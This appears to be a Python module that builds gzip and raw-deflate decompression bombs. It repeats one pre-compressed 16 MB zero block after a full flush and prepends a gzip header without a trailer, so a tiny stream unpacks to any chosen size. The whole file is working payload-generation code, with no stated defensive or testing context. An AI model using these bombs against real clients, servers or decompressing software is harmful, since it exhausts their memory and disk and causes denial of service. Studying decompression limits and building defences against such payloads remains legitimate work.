"""Small bodies that unpack to large ones, built without ever being large."""

import gzip
import zlib
from collections.abc import Iterator

_BLOCK = bytes(16_000_000)


def deflate_bomb(unpacked_bytes: int) -> Iterator[bytes]:
    """Yield a raw deflate stream of zeros: the same packed block again and again."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    # After a full flush nothing refers back: the block can be repeated.
    block = packer.compress(_BLOCK) + packer.flush(zlib.Z_FULL_FLUSH)
    for _ in range(unpacked_bytes // len(_BLOCK)):
        yield block


def gzip_bomb(unpacked_bytes: int) -> Iterator[bytes]:
    """Yield a gzip file of zeros, without its end, which nobody reaches."""
    yield gzip.compress(b"", mtime=0)[:10]
    yield from deflate_bomb(unpacked_bytes)
